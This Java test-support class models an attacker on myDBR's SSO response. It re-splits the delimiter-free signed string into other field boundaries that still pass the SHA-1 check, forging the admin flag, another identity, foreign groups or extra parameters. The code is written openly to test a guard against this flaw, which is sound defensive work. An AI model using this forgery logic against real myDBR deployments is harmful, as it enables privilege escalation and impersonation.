package dev.crmsso.testsupport;

import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.regex.Pattern;
import java.util.stream.Collectors;

/**
 * The attacker of the myDBR answer: takes a signed answer as the browser received it, re-splits the signed string
 * into the same fields in every way of the four classes below, keeps those myDBR would verify (it checks the hash
 * as myDBR does, with the secret) and reports the ones that gain something. Written apart from the protocol's guard,
 * on purpose: it is the test of that guard.
 * <ol>
 * <li>admin: a substring PHP reads as 1 cut out as {@code admin} (a non-admin user);</li>
 * <li>identity: {@code user} shrunk to a prefix or grown into what follows, landing on another identity;</li>
 * <li>groups: a substring cut out as {@code groups} that names a group the user is not in;</li>
 * <li>extras: other {@code extra1}, {@code extra2} with a flag myDBR reads as 0 or 1.</li>
 * </ol>
 */
public final class MydbrForger {

    /** What the attacker could become: identities (lower case) and group names (lower case) a mapper can send. */
    public record Targets(Set<String> identities, Set<String> groups) {
    }

    /** A re-split that verifies and gains: its class and the parameters myDBR would receive. */
    public record Forgery(String kind, Map<String, String> answer) {
        @Override
        public String toString() {
            return kind + " " + answer;
        }
    }

    private static final Pattern PHP_NUMERIC =
            Pattern.compile("[ \\t\\n\\r\\u000B\\f]*([+-]?([0-9]+(\\.[0-9]*)?|\\.[0-9]+)([eE][+-]?[0-9]+)?)[ \\t\\n\\r\\u000B\\f]*");

    private final String token;
    private final String secret;
    private final int extrasAccepted;
    private final boolean legacy;

    public MydbrForger(String token, String secret, int extrasAccepted, boolean legacy) {
        this.token = token;
        this.secret = secret;
        this.extrasAccepted = extrasAccepted;
        this.legacy = legacy;
    }

    /** The hash myDBR computes over an answer it receives: extra1 … extraN with N its max_sso_extra_parameters. */
    public String myDbrHash(Map<String, String> a) {
        StringBuilder s = new StringBuilder();
        for (String f : fields()) {
            s.append(a.getOrDefault(f, ""));
        }
        return sha1(s + token + secret);
    }

    /** Whether myDBR accepts the answer's hash. */
    public boolean verifies(Map<String, String> a) {
        return myDbrHash(a).equals(a.get("hash"));
    }

    /** Every forgery of the four classes; empty when the answer cannot be turned into a gain. */
    public List<Forgery> forge(Map<String, String> signed, Targets targets) {
        List<Forgery> found = new ArrayList<>();
        if (!verifies(signed)) {
            throw new IllegalArgumentException("not an answer myDBR accepts: " + signed);
        }
        List<String> fields = fields();
        String s = fields.stream().map(f -> signed.getOrDefault(f, "")).collect(Collectors.joining());
        String user = signed.get("user");
        boolean admin = isPhpOne(signed.getOrDefault("admin", ""));
        Set<String> ownGroups = Arrays.stream(signed.getOrDefault("groups", "").split("\\|"))
                .map(g -> g.toLowerCase(Locale.ROOT)).collect(Collectors.toSet());
        int len = s.length();
        int adminEnd = legacy ? len : fields.stream().limit(fields.indexOf("admin") + 1L)
                .mapToInt(f -> signed.getOrDefault(f, "").length()).sum();

        // what precedes the flag: identity and group cuts happen there and keep the signed flag and extras
        String prefix = s.substring(0, adminEnd - (legacy ? 0 : signed.getOrDefault("admin", "").length()));
        Map<String, String> tail = new LinkedHashMap<>();
        if (!legacy) {
            fields.subList(fields.indexOf("admin"), fields.size()).forEach(f -> tail.put(f, signed.getOrDefault(f, "")));
        }
        for (int i = 1; i <= len; i++) {
            for (int j = i; j <= len; j++) {
                // 1. admin = s[i, j), user = s[0, i), extras take the rest (or nothing when myDBR takes none)
                if (!legacy && !admin && (extrasAccepted > 0 || j == len)) {
                    keep(found, "admin", Map.of("user", s.substring(0, i), "admin", s.substring(i, j),
                            "extra1", s.substring(j)), a -> isPhpOne(a.get("admin")));
                }
                // 4. admin flag = s[i, j), extras cut in two at every place
                if (!legacy && extrasAccepted > 0 && isPhpFlag(s.substring(i, j))) {
                    for (int c = j; c <= len; c++) {
                        Map<String, String> a = new LinkedHashMap<>(Map.of("user", s.substring(0, i),
                                "admin", s.substring(i, j), "extra1", s.substring(j, c)));
                        if (extrasAccepted >= 2) {
                            a.put("extra2", s.substring(c));
                        } else if (c < len) {
                            continue;
                        }
                        keep(found, "extras", a, x -> !extrasOf(x).equals(extrasOf(signed)));
                    }
                }
            }
        }
        for (int i = 1; i <= prefix.length(); i++) {
            // 2. user = prefix[0, i), the rest in name
            String other = prefix.substring(0, i);
            if (!other.equals(user) && targets.identities().contains(other.toLowerCase(Locale.ROOT))) {
                keep(found, "identity", with(tail, "user", other, "name", prefix.substring(i)), a -> true);
            }
            // 3. groups = prefix[i, j), with email after it; in legacy mode nothing follows groups, so j is the end
            for (int j = legacy ? prefix.length() : i; j <= prefix.length(); j++) {
                String groups = prefix.substring(i, j);
                boolean otherGroup = Arrays.stream(groups.split("\\|")).map(g -> g.toLowerCase(Locale.ROOT))
                        .anyMatch(g -> targets.groups().contains(g) && !ownGroups.contains(g));
                if (otherGroup) {
                    Map<String, String> a = legacy
                            ? with(tail, "user", prefix.substring(0, 1), "name", prefix.substring(1, i), "groups", groups)
                            : with(tail, "user", prefix.substring(0, i), "groups", groups, "email", prefix.substring(j));
                    keep(found, "groups", a, x -> true);
                }
            }
        }
        return found;
    }

    private static Map<String, String> with(Map<String, String> tail, String... pairs) {
        Map<String, String> a = new LinkedHashMap<>();
        for (int k = 0; k < pairs.length; k += 2) {
            a.put(pairs[k], pairs[k + 1]);
        }
        a.putAll(tail);
        return a;
    }

    private void keep(List<Forgery> found, String kind, Map<String, String> values, java.util.function.Predicate<Map<String, String>> gains) {
        Map<String, String> a = new LinkedHashMap<>(values);
        a.put("hash", myDbrHash(a));
        if (verifies(a) && gains.test(a) && found.stream().noneMatch(f -> f.kind().equals(kind))) {
            found.add(new Forgery(kind, a));
        }
    }

    private List<String> extrasOf(Map<String, String> a) {
        List<String> extras = new ArrayList<>();
        for (int n = 1; n <= extrasAccepted; n++) {
            extras.add(a.getOrDefault("extra" + n, ""));
        }
        return extras;
    }

    private List<String> fields() {
        List<String> f = new ArrayList<>(List.of("user", "name", "groups"));
        if (!legacy) {
            f.addAll(List.of("email", "telephone", "admin"));
            for (int n = 1; n <= extrasAccepted; n++) {
                f.add("extra" + n);
            }
        }
        return f;
    }

    private static BigDecimal phpNumber(String s) {
        var m = PHP_NUMERIC.matcher(s);
        return m.matches() ? new BigDecimal(m.group(1)) : null;
    }

    private static boolean isPhpOne(String s) {
        BigDecimal v = phpNumber(s);
        return v != null && v.compareTo(BigDecimal.ONE) == 0;
    }

    private static boolean isPhpFlag(String s) {
        BigDecimal v = phpNumber(s);
        return v != null && (v.signum() == 0 || v.compareTo(BigDecimal.ONE) == 0);
    }

    public static String sha1(String s) {
        try {
            return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-1").digest(s.getBytes(StandardCharsets.UTF_8)));
        } catch (NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }
}
